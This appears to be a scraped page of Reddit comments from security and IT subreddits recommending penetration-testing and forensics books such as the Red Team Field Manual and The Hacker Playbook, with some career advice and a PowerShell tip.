Basic Security Testing with Kali Linux 2 I havent read this one but I have heard good thingsThe Hacker Playbook

[The Hacker Playbook 2] (

Also a good list of resources can be found here:

u/O726564646974 · 2 pointsr/cybersecurity

I'd be very surprised if you haven't heard or got these given your certs! Either way highly recommend the Blue Team Field Manual and Red Team Field Manualu/OSUTechie · 2 pointsr/ITCareerQuestions

Yes, most Gov jobs require at least Sec+.

Depending on how much you did as an LEO you may look into computer forensics. Network Security etc. You may also want to beef up knowledge of networking as well. So either the Net+ and/or CCNE cert.

Books are always a good place to start. I don't know about this one but have read a few other books by this publisher that have been pretty good.

Ones I have read/skimmed:

u/TailSpinBowler · 2 pointsr/netsecstudents

>wrong methodology.

Correct methodology is to break shit. Ignore the rules and bend them.

Just pay attention to what is in scope. Dont take down a production server etc. Dont snoop 3rd party hosted sites.

>doing in my free time

Do what ever interests you.


Hack playbook

Red team field manual.

>participate in bug bountiesu/jls3388 · 1 pointr/oscp

The biggest thing is the material they provide. The Red team field manual RTFM helped a ton early on.

u/parttimeadult · 1 pointr/sysadmin
u/maq0r · 1 pointr/vzla

Que mas quieres hacer? No saques mas nada Cisco si no estas pendiente de hacer networking y aun asi, Cisco no se esta usando tanto como otros (Palo Alto por ejemplo).

Si quieres hacer Incident Response y Pentest, lanzate estos librosTienes que definir un poco mas que quieres hacer. Que te atrae mas de cybser security?

u/pkelley_hyp · 1 pointr/raspberry_pi

Make your life easier and order this...

I use it for pentesting, but it is a solid small reference book with Linux commands, as well as Windows and others.

You can always grab the O'Reilly Linux book, but this is much more portable and has room for notes.


u/spinfip · 1 pointr/AskNetsec
u/brothersand · 1 pointr/linuxmasterrace

If you have to use Windows, and many of us do, do yourself a favor and learn some PowerShell. "ls" is a supported alias. In fact, a lot of Unix style commands are. It even uses the pipeline "|" only instead of piping text you are passing .Net objects.

> ps notepad | kill

You don't have to parse out the process id. It derives that from the object.Do yourself a further favor and install Git. Then you can include all the tools under its usr/bin directory in your path and have such tools as grep, du, find, ssh, scp, etc. all complied for Windows.

The look on a Windows sysadmin's face when you ssh to a remote server from a pwsh command line makes it all worthwhile.

Edit: I mean, I even run vim with a custom vimrc file in a pwsh console on Windows 10 with my keyboard remapped to Dvorack. And GVim is my default tool for .txt files. I get a lot of weird looks from the Windows sysadmins.

Edit #2: If you want some really squirrely but very effective Win cmd style commands, check out the Red Team Field Manual. Some good shit in here for Linux too.

u/intoxicatednoob · 1 pointr/hacking

Just tell him to go read the R.T.F.M. book

u/potatotub · 1 pointr/AskProgramming

Red Team Field Manual (edit: for offense)

If you’re want to defend against web attacks, the owasp wiki should be good to get you started.

u/LP970 · 1 pointr/talesfromtechsupport

It's actually a thing.u/seaowl · 1 pointr/OutOfTheLoop

You could find out for only 9$ now on Amazon. but I think pat131 is right though, it looks like an overhyped basic pentesting manual specially designed to extract money from script kiddies pockets. There are certainly better and more up to date resource available for free on the internet.

ps. "pen-tester" is the politically correct term for Hacker

u/dougsec · 1 pointr/computerforensics

Since this is the subreddit for DFIR, that's what you're going to end up with as far as suggestions go. For pentesting stuff, checkout:-Web Application Hacker's Handbook: (this has some labs, but just reading through the various weaknesses in WebApps will be a great start)

-The Hacker Playbook:

Red Team Field Manual:

Those two are good general pentesting books. You might also try /r/AskNetsec for other suggestions.

u/sillycyco · 0 pointsr/whatisthisthing

Appears to be the logo for the Red Team Field Manual. Twitter page here. Amazon link to the book here. This is a reference book for common command line tools used in the security field. Penetration testers would use this, red team / blue team scenario participants, etc.

"Red team" is the common term used for the "bad guys" in security training scenarios. Having a hard copy reference is nice because you are many times operating blind, crafting complex command groups without being able to see the output or reference the man page.

u/OriginalEfficiency · 0 pointsr/linuxquestions

Sure - we are working through this right now along with a lot of supplemental material the teacher has put together himself - the book is fine on its own though.

While you could technically jump straight into this and start messing around with the pen testing applications, I'd strongly recommend working through the book from my original post as you'll have a strong foundation of what you are actually doing and what to do when things go wrong or aren't working exactly right.

We also use this book, however I'd probably not recommend spending the money unless you have worked through both books and really want to get into pen testing. Even then I probably wouldn't recommend it as its just a reference book or "cheat sheet" of popular commands, locations of files like passwords, etc. etc. Its made to be taken out to the field and as a small reference book if you forget something anddon't have time for google. We are using it because we are actually doing pen testing in random labs wherewe walk into a room for the first time and have two hours to exploit various things. Ill link it anyway though just in case:

There is another book we haven't bought but he may have us pick up and if that happens ill link it as well. Hope this all helped and good luck!

edit: I forgot about this - we will be using some of this once we've finished the second book in a few weeks: